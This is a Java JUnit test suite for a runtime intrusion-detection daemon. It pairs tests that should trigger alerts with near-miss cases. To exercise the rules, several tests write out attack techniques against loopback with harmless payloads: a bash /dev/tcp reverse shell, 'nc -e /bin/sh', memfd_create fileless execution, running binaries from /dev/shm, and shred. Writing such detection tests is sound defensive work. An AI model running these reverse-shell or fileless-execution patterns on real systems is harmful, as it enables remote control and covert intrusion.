package dev.peregrine.probe.detections;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.peregrine.probe.bpf.RequiresBpf;
import dev.peregrine.probe.daemon.AlertLines;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** Execution: shells where there should be none, reverse shells, payloads run from memory or /dev/shm. */
@ExtendWith({RequiresBpf.class, LiveDaemon.Shared.class})
class ExecutionDetectionsTest extends DetectionTest {

    /** A real JVM (not the test's: surefire is a known build tool) that runs a shell, as an RCE payload would. */
    private Run jvmRunningAShell(String... extraArgs) throws Exception {
        Path source = Files.writeString(tmp.resolve("Spawn.java"), """
                public class Spawn {
                    public static void main(String[] a) throws Exception {
                        new ProcessBuilder("/bin/sh", "-c", "exit 0 # " + a[0]).inheritIO().start().waitFor();
                    }
                }
                """);
        String java = ProcessHandle.current().info().command().orElseThrow();
        String[] command = new String[3 + extraArgs.length];
        command[0] = java;
        command[1] = source.toString();
        command[2] = m;
        System.arraycopy(extraArgs, 0, command, 3, extraArgs.length);
        return Run.ok(tmp, command);
    }

    @Test
    @Triggers("Shell spawned by a JVM")
    void aJvmRunsAShell() throws Exception {
        jvmRunningAShell();
        String alert = daemon.await("Shell spawned by a JVM", m);
        assertEquals("sh", AlertLines.value(alert, "proc.name"));
        assertEquals("java", AlertLines.value(alert, "proc.pname"));
        assertEquals("Notice", AlertLines.value(alert, "priority"));
    }

    @Test
    @NearMiss("Shell spawned by a JVM")
    void buildToolJvmsRunShells() throws Exception {
        jvmRunningAShell("org.codehaus.plexus.classworlds.launcher.Launcher"); // a Maven-like command line
        Run.ok("/bin/sh", "-c", "exit 0 # " + m); // this test JVM is Maven's Surefire
        daemon.assertNone("Shell spawned by a JVM", m);
    }

    @Test
    @Triggers("Shell spawned by a server program")
    void aWebServerRunsAShell() throws Exception {
        Path nginx = Aliases.link(tmp, "nginx", "/bin/bash");
        Run.ok(tmp, nginx.toString(), "-c", "/bin/sh -c 'exit 0 # " + m + "'; true");
        String alert = daemon.await("Shell spawned by a server program", m);
        assertEquals("nginx", AlertLines.value(alert, "proc.pname"));
        assertEquals("sh", AlertLines.value(alert, "proc.name"));
    }

    @Test
    @NearMiss("Shell spawned by a server program")
    void anOrdinaryProgramRunsAShell() throws Exception {
        Path app = Aliases.link(tmp, "reportgen", "/bin/bash");
        Run.ok(tmp, app.toString(), "-c", "/bin/sh -c 'exit 0 # " + m + "'; true");
        daemon.assertNone("Shell spawned by a server program", m);
    }

    @Test
    @Triggers("Netcat remote code execution")
    void netcatWithExec() throws Exception {
        Path nc = Aliases.link(tmp, "nc", "/bin/true"); // netcat is not installed: the command line is what counts
        Run.ok(tmp, nc.toString(), "-e", "/bin/sh", "127.0.0.1", "9", m);
        assertEquals("nc", AlertLines.value(daemon.await("Netcat remote code execution", m), "proc.name"));
    }

    @Test
    @NearMiss("Netcat remote code execution")
    void netcatPortScan() throws Exception {
        Path nc = Aliases.link(tmp, "nc", "/bin/true");
        Run.ok(tmp, nc.toString(), "-z", "-v", "127.0.0.1", "9", m);
        daemon.assertNone("Netcat remote code execution", m);
    }

    @Test
    @Triggers("Execution from /dev/shm")
    void binaryRunFromDevShm() throws Exception {
        Path copy = Path.of("/dev/shm", m);
        try {
            Files.copy(Path.of("/bin/true"), copy);
            copy.toFile().setExecutable(true);
            Run.ok(copy.toString());
            assertEquals(copy.toString(), AlertLines.value(daemon.await("Execution from /dev/shm", m), "proc.exepath"));
        } finally {
            Files.deleteIfExists(copy);
        }
    }

    @Test
    @NearMiss("Execution from /dev/shm")
    void binaryRunFromTmp() throws Exception {
        Path copy = Files.copy(Path.of("/bin/true"), tmp.resolve(m));
        copy.toFile().setExecutable(true);
        Run.ok(copy.toString());
        daemon.assertNone("Execution from /dev/shm", m);
    }

    @Test
    @Triggers("Fileless execution via memfd_create")
    void binaryRunFromMemfd() throws Exception {
        Run.py(m, """
                import os
                fd = os.memfd_create('payload')
                os.write(fd, open('/bin/true', 'rb').read())
                pid = os.fork()
                if pid == 0:
                    os.execv('/proc/self/fd/%%d' %% fd, ['payload', '%s'])
                os.waitpid(pid, 0)
                """.formatted(m));
        String alert = daemon.await("Fileless execution via memfd_create", m);
        assertEquals("Critical", AlertLines.value(alert, "priority"));
        assertTrue(AlertLines.value(alert, "proc.exepath").contains("memfd:payload"), alert);
    }

    @Test
    @NearMiss("Fileless execution via memfd_create")
    void memfdWithoutExec() throws Exception {
        Run.py(m, """
                import os
                fd = os.memfd_create('buffer')
                os.write(fd, open('/bin/true', 'rb').read())
                pid = os.fork()
                if pid == 0:
                    os.execv('/bin/true', ['true', '%s'])
                os.waitpid(pid, 0)
                """.formatted(m));
        daemon.assertNone("Fileless execution via memfd_create", m);
    }

    @Test
    @Triggers("System user interactive")
    void nobodyRunsACommandBelowSshd() throws Exception {
        Path sshd = Aliases.link(tmp, "sshd", "/bin/bash");
        Run.ok(tmp, sshd.toString(), "-c",
                "setpriv --reuid=65534 --regid=65534 --clear-groups /bin/true " + m + "; true");
        String alert = daemon.await("System user interactive", m);
        assertEquals("nobody", AlertLines.value(alert, "user.name"));
        assertEquals("Informational", AlertLines.value(alert, "priority"));
    }

    @Test
    @NearMiss("System user interactive")
    void rootRunsACommandBelowSshd() throws Exception {
        Path sshd = Aliases.link(tmp, "sshd", "/bin/bash");
        Run.ok(tmp, sshd.toString(), "-c", "/bin/true " + m + "; true");
        daemon.assertNone("System user interactive", m);
    }

    @Test
    @Triggers("Remove bulk data from disk")
    void shredAFile() throws Exception {
        Path file = Files.writeString(tmp.resolve(m), "secret");
        Run.ok("shred", "-u", file.toString());
        assertEquals("shred", AlertLines.value(daemon.await("Remove bulk data from disk", m), "proc.name"));
    }

    @Test
    @NearMiss("Remove bulk data from disk")
    void removeAFile() throws Exception {
        Path file = Files.writeString(tmp.resolve(m), "secret");
        Run.ok("rm", "-f", file.toString());
        daemon.assertNone("Remove bulk data from disk", m);
    }

    /** A loopback listener that answers one connection with {@code reply} and reads it to the end. */
    private static ServerSocket listener(String reply) throws IOException {
        ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress());
        Thread t = new Thread(() -> {
            try (Socket s = server.accept()) {
                s.getOutputStream().write(reply.getBytes(StandardCharsets.UTF_8));
                s.getOutputStream().flush();
                s.getInputStream().readAllBytes();
            } catch (IOException ignored) {
                // the test asserts on the alerts, not on this conversation
            }
        }, "reverse-shell-listener");
        t.setDaemon(true);
        t.start();
        return server;
    }

    @Test
    @Triggers("Redirect STDOUT/STDIN to network connection")
    void bashReverseShell() throws Exception {
        try (ServerSocket server = listener("exit\n")) {
            Run.ok("/bin/bash", "-c", "sh -i >& /dev/tcp/127.0.0.1/" + server.getLocalPort() + " 0>&1 # " + m);
            String alert = daemon.await("Redirect STDOUT/STDIN to network connection", m);
            assertEquals("ipv4", AlertLines.value(alert, "fd.type"));
            assertEquals(Integer.toString(server.getLocalPort()), AlertLines.value(alert, "fd.rport"));
        }
    }

    @Test
    @NearMiss("Redirect STDOUT/STDIN to network connection")
    void socketOnAnOrdinaryFd() throws Exception {
        try (ServerSocket server = listener("")) {
            Run.ok("/bin/bash", "-c", "exec 5<>/dev/tcp/127.0.0.1/" + server.getLocalPort() + "; exec 5>&- # " + m);
            daemon.assertNone("Redirect STDOUT/STDIN to network connection", m);
        }
    }

    /**
     * ssh to a public address (TEST-NET-3), inside a private network namespace whose loopback carries that address:
     * nothing leaves the machine, yet the connection is "outbound" to the rule.
     */
    private Run sshInPrivateNetwork(int port) throws Exception {
        String script = """
                import socket, subprocess, threading
                subprocess.run(['ip', 'link', 'set', 'lo', 'up'], check=True)
                subprocess.run(['ip', 'addr', 'add', '203.0.113.7/32', 'dev', 'lo'], check=True)
                s = socket.socket()
                s.bind(('203.0.113.7', %d))
                s.listen(1)
                def serve():
                    c, _ = s.accept()
                    c.close()
                threading.Thread(target=serve, daemon=True).start()
                subprocess.run(['ssh', '-F', '/dev/null', '-o', 'BatchMode=yes', '-o', 'ConnectTimeout=5',
                                '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null',
                                '-p', '%d', '%s@203.0.113.7', 'true'])
                """.formatted(port, port, m);
        return Run.ok(tmp, "unshare", "-n", Run.python(), "-c", script);
    }

    @Test
    @Triggers("Disallowed SSH connection non standard port")
    void sshToPort443() throws Exception {
        sshInPrivateNetwork(443);
        String alert = daemon.await("Disallowed SSH connection non standard port", m);
        assertEquals("443", AlertLines.value(alert, "fd.rport"));
        assertEquals("ssh", AlertLines.value(alert, "proc.name"));
    }

    @Test
    @NearMiss("Disallowed SSH connection non standard port")
    void sshToPort22() throws Exception {
        sshInPrivateNetwork(22);
        daemon.assertNone("Disallowed SSH connection non standard port", m);
    }
}
